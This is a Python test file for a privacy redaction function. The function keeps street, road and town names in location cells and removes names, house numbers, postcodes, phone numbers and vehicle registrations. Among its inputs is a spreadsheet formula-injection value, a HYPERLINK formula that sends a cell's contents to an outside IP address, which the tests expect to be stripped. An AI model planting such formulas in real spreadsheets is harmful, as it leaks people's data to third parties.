"""What stays of a place: streets, roads, public places and settlements by form or by list, and nothing else."""

import pyarrow as pa
import pytest

from portal.privacy.columns import encoded
from portal.privacy.grammar.columns import places, streets_spoken_for, towns_spoken_for
from portal.privacy.grammar.lists import NONE, LocalLists
from portal.privacy.grammar.place import place
from portal.privacy.identifiers.kinds import IdentifierKind
from tests.bench_utility import cells_of_the_county, lists_of_the_county

STAYS = (
    """
High Street|The Street|Elm Close|Upper George Street|St Oswalds Road|Earl Howe Street|Frank Whittle Close|Heol y Bont|A6 London Road|A47 Earl Shilton bypass
M1 J24|A50 Jct 24a|Jct 21A M1|Junction of Uppingham Rd and Humberstone Rd|Footpath between Dieppe Way & Edendale Rd|Layby on A607 nr Frisby turn
On or near Sports/recreation Area|On or near Zabih Road|No Location|Sandy Lane|Preston New Road|Fishergate|Bad Homburg Way
Abbey Park|Victoria Park|Spinney Hill Park|Watermead Country Park|Bus shelter o/s St Mary's Primary School, Burton Road|Robert Smyth Academy
Rose and Crown PH, Coalville|Christ Church, Stafford Street|The Red Lion|Fox and Hounds|Tesco Express, Melton Road|Outside Tesco|Car park, Haymarket
Ashby-de-la-Zouch|Barrow upon Soar railway station|Town centre|London Road, Oadby|BELGRAVE GATE, LEICESTER (O/S PREMIER INN)|melton road, syston
Main St, Gaddesby (next door to the Cheney Arms)|50m north of Station Road|1 mile north of Station Road|LE2|School bus, route 5A, nr Syston|Abbey Lane / Beaumont Leys Lane
Shops at The Fairway|Chip shop on The Parade|Tudor Road x Narborough Road|Lee Circle|Seven Sisters Road|Public house on Mill Road|jct w Fosse Road S|Aylestone Rd junc Saffron Lane|Narborough Rd Nth|St Margaret's Pastures
Sharon Close, Oadby|outside Lucy Street|Outside The Victoria Hall, May Street|Tomasz Way j/w Hinckley Road|Mason Close|Ide Lane|Lincoln Street|Martin Luther King Way|Dame Dorothy Street|Cloth Market|Split Crow Road|Blue Boar Row
Wincheap|Bongate, Appleby|Maison Dieu Road|Howard Close|George Williams Way|Rosemary Lane|Higher Fore Street|Horsemarket, Daventry|King George V Playing Fields|The Spread Eagle|The Cross Keys|Vicarage Hill|Howard Close, Kendal|Oak Beck Villas
Foregate Street at its junction with Cabin Lane|Midland Road j/w Prince of Wales Road|Junction of Hythe Bridge Street and Park End Street|The Shambles|Cheapside|Lowgate|Droitwich Lido|Chirk Aqueduct|Ipswich Waterfront
Locke Park, Barnsley|Outside Wardown Park|Bath Road, Thornaby|High Street, Lincoln|City Park, Bradford|Bradford Grammar School|Clifton Suspension Bridge|Exhibition Park|Costa Coffee, Park Row|A&E, Leicester Royal Infirmary|King Edward VI Grammar School|St.Mary's Road|ST Mary's Road|AT High Street|OX LANE|ZABIH ROAD|Mill Road.Oadby
Pen-Y-Ghent Way|Co-Operative Street|McDonald Road|SouthBridge Road|A'Court Street|Bo'ness Road|Salters Road-Burton Street|Quxley Road/Mill Lane|N Circular Road|Clos Y Mwyar
""".strip()
    .replace("\n", "|")
    .split("|")
)
BECOMES = [
    ("Llys Awel, Salisbury Road", "Salisbury Road"),
    ("Mill Road at its junction with Zelda Quxley", "Mill Road"),
    ("Zelda Quxley at its junction with Mill Road", "at its junction with Mill Road"),
    ("Mill Road near Zelda of Quxley", "Mill Road"),
    ("Kulsoom Park", ""),
    ("Locke Park", ""),
    ("home of Zelda Park, Barnsley", "Barnsley"),
    ("Dunroamin, The Street", "The Street"),
    ("Wisteria, Back Lane, Tugby", "Back Lane, Tugby"),
    ("The Elms, Main Street, Tugby", "Main Street, Tugby"),
    ("Rose Cottage, Mill Lane", "Mill Lane"),
    ("Ivy Dene, Church Lane", "Church Lane"),
    ("Flat 3, Tower Court, High Street", "High Street"),
    ("home of Mason Hill", ""),
    ("Gulalai Noorzai of Ivy Dene", ""),
    ("Jordan Lane and her mum, Mill Road", "Mill Road"),
    ("victim lives at Stanikzai Street", ""),
    ("Mill Road - Mason Hill (14)", "Mill Road"),
    ("Zabihullah & Chidubem Meadow Lane", "Meadow Lane"),
    ("no 7 Akinfenwa Mill Road", "Mill Road"),
    ("Joaozinho school, Wharf Street", "Wharf Street"),
    ("Pham household Church Lane", "Church Lane"),
    ("Bell House, Elm Road", "Elm Road"),
    ("Wigston, Ada", ""),
    ("Tesfay's school", ""),
    ("12, 14 and 16 High Street", "High Street"),
    ("next door to 15 Elm Close", "Elm Close"),
    ("rear of 9-11 Vicarage Close", "Vicarage Close"),
    ("outside no nine Elm Close", "Elm Close"),
    ("Flat 2, 17 Brook Street, Syston LE7 2QR", "Brook Street, Syston LE7"),
    ("corner shop kept by the Patels", ""),
    ("Priyanka Cropthorne, Mill Road", "Mill Road"),
    ("Priyanka Cropthorne Mill Road", "Mill Road"),
    ("Zabihullah Noorzai High Street", "High Street"),
    ("h/a of Sivakumar Thirunavukkarasu, 14 Elm Close, Oadby LE2 3AB", "Elm Close, Oadby LE2"),
    ("the vicar's wife, Church Lane", "Church Lane"),
    ("her son, Mill Road", "Mill Road"),
    ("Church Lane (Sivakumar's)", "Church Lane"),
    ("Mill Road - victim Oluwaseun Adebayo", "Mill Road"),
    ("High Street. Zofia rang", "High Street"),
    ("KHAN, Imran, 12 Melton Road", "Melton Road"),
    ("Preston, Kwame, Mill Road", "Mill Road"),
    ("Gholamreza Ahmadzai outside Tesco", "outside Tesco"),
    ("Siôn ap Rhys, Heol y Bont", "Heol y Bont"),
    ("Abdi's flat above the chip shop, London Road", "London Road"),
    ("Fatoumata Pennistone", ""),
    ("Paul Smith", ""),
    ("see Wrenfield", ""),
    ("S M I T H", ""),
    ("PC 4417 High Street", "High Street"),
    ("07700 900417 Mill Lane", "Mill Lane"),
    ("52°38'10\"N 1°08'01\"W", ""),
    ("9C4WJV9P+XQ", ""),
    ('=HYPERLINK("http://198.51.100.9/?x="&A2,"Christ Church, Stafford Street")', "Christ Church, Stafford Street"),
    ("+Rose and Crown PH, Coalville", "Rose and Crown PH, Coalville"),
    ("@SUM(A1:A9)", ""),
    ("outside 76 Mile Cross Lane", "Mile Cross Lane"),
    ("double seven Tudor Road", "Tudor Road"),
    ("twenty-one Tudor Road", "Tudor Road"),
    ("daring.lion.race Wood Gate", "Wood Gate"),
    ("SK5804 Wood Gate", "Wood Gate"),
    ("FN71HKD Mill Road", "Mill Road"),
    ("car FN71HKD, Mill Road", "Mill Road"),
    ("Platform 07700900417", ""),
    ("block S7401391", ""),
    ("Mill Lane Mr. & Mrs. O'Shaughnessy", "Mill Lane"),
    ("Mill Lane, S. Khan", "Mill Lane"),
    ("Pontcanna House, Church Lane", "Church Lane"),
    ("Flat 4, Rhoslan, Anytown", "Anytown"),
    ("Tariq Way", ""),
    ("High Street, Kieron Street", "High Street"),
    ("Howard close to Mill Road", "to Mill Road"),
    ("Howard Close and her mum, Mill Road", "Mill Road"),
    ("Quxley Howard Close", ""),
    ("Kingrigg, Mill Road", "Mill Road"),
    ("The Beeches", ""),
    ("Jordan Lane", ""),
    ("Comfort Grove", ""),
    ("Tom-Grove", ""),
    ("Jordan Lane and Mill Road", "Mill Road"),
    ("Kayden Academy", ""),
    ("Mill Road, Will Lane", "Mill Road"),
    ("Butcher's school", ""),
    ("Mill Road, JD Court", "Mill Road"),
    ("Windmill Hill, AE Green", "Windmill Hill"),
    ("amara.green Church Road", "Church Road"),
    ("Coatsworth Road trevor.bickerstaffe", ""),
    ("RD Brook", ""),
    ("Mill Road, Y. Hill", "Mill Road"),
    ("Priya.Court@example.org, Mill Road", "Mill Road"),
    ("Shaz 'Tiny' Way", ""),
    ("Court, Tariq", ""),
    ("Preston Barton", ""),
    ("Braeside, Mill Road", "Mill Road"),
    ("The Nook, Bath Road", "Bath Road"),
    ("The Paddock, Bath Road", "Bath Road"),
    ("Llanberis, Mill Road, Oadby", "Mill Road, Oadby"),
    ("Greystones, Mill Road", "Mill Road"),
    ("Applegarth, Oadby", "Oadby"),
    ("Larkrise", ""),
    ("Mill Road (Green)", "Mill Road"),
    ("Mill Road & Braithwaite", "Mill Road"),
    ("Braithwaite: Mill Road", "Mill Road"),
    ("Mill Road Errol Dacres", "Mill Road"),
    ("Zelda Quxley College Road", "College Road"),
    ("nr Zelda Bridge Street", "Bridge Street"),
    ("N\u00e9lson Close", ""),
    ("Junior, Mill Road", "Mill Road"),
    ("Quarry Bank, Overpool Road East, Oadby", "Overpool Road East, Oadby"),
    ("The Old Forge, Mill Road", "Mill Road"),
    ("outside Zelda Church", ""),
    ("outside Mark Church", ""),
    ("Finch, Frank Overpool Road", "Overpool Road"),
    ("Mill Road - rung by CLOSE, Chukwuemeka", "Mill Road"),
    ("Windermere, Oadby", "Oadby"),
    ("Balmoral", ""),
    ("Meridian Way ZL65 RXL", "Meridian Way"),
    ("Hertford Street tel 07700 900965", "Hertford Street"),
    ("Mob: 07700900965 Jordan Lane", ""),
    ("Zelda Quxley +44 7700 900965 Mill Road", "Mill Road"),
    ("Hekmatullah Close reg AB12 CDE", ""),
    ("David High Street", "High Street"),
    ("John Mill Road", "Mill Road"),
    ("Elizabeth High Street", "High Street"),
    ("Laura Khan Close", ""),
    ("Peter Adebayo Road, Mill Road", "Mill Road"),
    ("Grace Okonkwo Car Park", ""),
    ("Mary Rose Patel Gardens", ""),
    ("Mark Gardener Academy", ""),
    ("Martin Ali Community Centre", ""),
    ("Ackroyd, Kayleigh Drive", ""),
    ("Zelda_Quxley Community Centre", ""),
    ("Darren:Blenkinsop Road", ""),
    ("Zelda/Quxley Road", ""),
    ("Zelda-Quxley Library", ""),
    ("Xiaomei-Lam Library", ""),
    ("ZeldaQuxley Road", ""),
    ("Zelda'Quxley Road", ""),
    ("QUXLEY, Zelda Gardens", ""),
    ("The Quxley, Zelda Inn", ""),
    ("Y. Quxley Grove", ""),
    ("N Quxley Court", ""),
    ("Dunroamin, Ubberley Road", "Ubberley Road"),
    ("Mill Road, Quxley LE2", "Mill Road, LE2"),
    ("Mill Road, flat B12", "Mill Road"),
]


@pytest.mark.clause("s6.no-identifiers")
@pytest.mark.parametrize("text", STAYS)
def test_a_place_by_form_or_list_stays_whole(text):
    assert place(text).text == text


@pytest.mark.clause("s6.no-identifiers")
@pytest.mark.parametrize(("sent", "kept"), BECOMES)
def test_what_is_no_place_goes_and_the_street_stays(sent, kept):
    assert place(sent).text == kept
    assert place(kept).text == kept


def test_a_village_before_a_street_may_be_a_house_but_where_the_file_shows_it_is_none():
    cells = ["Windermere, Mill Road", "Syston, Mill Road", "4 High Street, Syston LE7 2QR"]
    lists = NONE.beside((), towns_spoken_for(encoded(pa.array(cells))))
    assert [place(cell, lists).text for cell in cells[:2]] == ["Mill Road", "Syston, Mill Road"]
    shown = NONE.beside((), towns_spoken_for(encoded(pa.array(["Lake Road, Windermere"]))))
    assert [place("Windermere", lists).text for lists in (NONE, shown)] == ["", "Windermere"]


def test_a_partnerships_own_places_stay_and_others_do_not():
    own = LocalLists.of({"places": ["Dunroamin Club", "The Forum, Norwich"], "streets": ["Priyanka Cropthorne Way"]})
    assert place("car park opposite The Forum, Norwich", own).text == "car park opposite The Forum, Norwich"
    assert place("Dunroamin Club, Priyanka Cropthorne Way", own).text == "Dunroamin Club, Priyanka Cropthorne Way"
    assert place("Dunroamin Club, Priyanka Cropthorne Way").text == ""


def test_a_file_that_numbers_the_houses_of_a_street_shows_that_it_is_one():
    texts = [
        "14 The Beeches",
        "9 Kieron Close",
        "Jordan Lane",
        "The Hollies",
        "Flat 3, The Laurels",
        "Larkrise",
        "On or near Fernbank",
    ]
    shown = streets_spoken_for(encoded(pa.array(texts)))
    own = NONE.beside(shown)
    assert shown == {"The Beeches", "Kieron Close", "Fernbank"}
    assert place("The Beeches, Oadby", own).text == "The Beeches, Oadby"
    assert place("The Beeches, Mill Road", own).text == "Mill Road"
    assert place("Quxley Kieron Close", own).text == ""
    assert place("The Hollies", own).text == ""


def test_a_file_that_numbers_the_houses_of_a_street_called_by_a_whole_name_shows_it_and_no_other():
    texts = [
        "14 John Pickles Way",
        "John Pickles Way, Oadby",
        "John Quxley Way",
        "2 David Mill Road",
        *["Mary Church Road"] * 5,
        *["Laura Quxley Road"] * 5,
    ]
    shown = streets_spoken_for(encoded(pa.array(texts)))
    assert shown == {"John Pickles Way", "Laura Quxley Road"}
    kept = places(pa.array(texts), NONE.beside(shown)).column.to_pylist()
    assert kept[:5] == ["John Pickles Way", "John Pickles Way, Oadby", None, "Mill Road", "Church Road"]


def test_what_went_is_told_by_kind():
    assert place("12 High Street").gone == {IdentifierKind.ADDRESS}
    assert place("Mrs Noorzai, High Street").gone == {IdentifierKind.NAME}
    assert place("Wisteria, High Street").gone == {IdentifierKind.UNLISTED}
    assert place("High Street LE7 2QR").gone == {IdentifierKind.POSTCODE}
    assert place("High Street FV60 RRP 0116 496 0000").gone == {IdentifierKind.VRM, IdentifierKind.PHONE}


def test_a_whole_column_is_judged_as_its_cells_are():
    texts = [
        *STAYS,
        *(sent for sent, _ in BECOMES),
        "12 Zabih Road, Oadby",
        "4 Oak Tree Close, Wigston LE18 1AB",
        "9 Her Son Road",
        "Mohammed Lane",
        "14 Tariq Close, Oadby",
        "3 Flat Lane",
        "",
        None,
    ]
    column = places(pa.array(texts, pa.string())).column.to_pylist()
    assert column == [place(text).text or None if text else None for text in texts]


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Flat above the Chip Shop, High Street", "High Street"),
        ("house next to the school, Mill Lane", "Mill Lane"),
        ("the flat over Boots, High Street", "High Street"),
        ("bedsit above Tesco", ""),
        ("home next door to the Post Office", ""),
        ("outside the school, Mill Lane", "outside the school, Mill Lane"),
        ("above Tesco, Narborough Road", "above Tesco, Narborough Road"),
    ],
)
def test_what_tells_which_home_it_is_goes_with_the_home(sent, kept):
    assert place(sent).text == kept


def test_of_cells_as_a_county_writes_them_98_in_100_stay_whole_once_its_lists_are_loaded():
    lists, cells = lists_of_the_county(), cells_of_the_county(2_000)
    lost = [sent for sent, kept in cells if place(sent, lists).text != kept]
    assert len(lost) <= 0.02 * len(cells), lost
